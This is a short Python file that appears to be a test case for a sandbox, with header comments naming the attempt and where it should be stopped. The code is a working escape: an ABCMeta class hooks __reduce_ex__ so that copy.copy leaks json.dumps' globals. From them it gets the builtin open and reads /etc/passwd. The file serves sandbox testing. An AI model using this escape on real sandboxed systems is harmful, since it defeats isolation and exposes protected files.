# tries: a class made by calling ABCMeta, with a hook that is out
# class: classes
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import abc
import copy
import json


def reduce(self, protocol):
    return getattr, (json.dumps, "__globals__")


C = abc.ABCMeta("C", (), {"__reduce_ex__": reduce})
use(dig(copy.copy(C())))
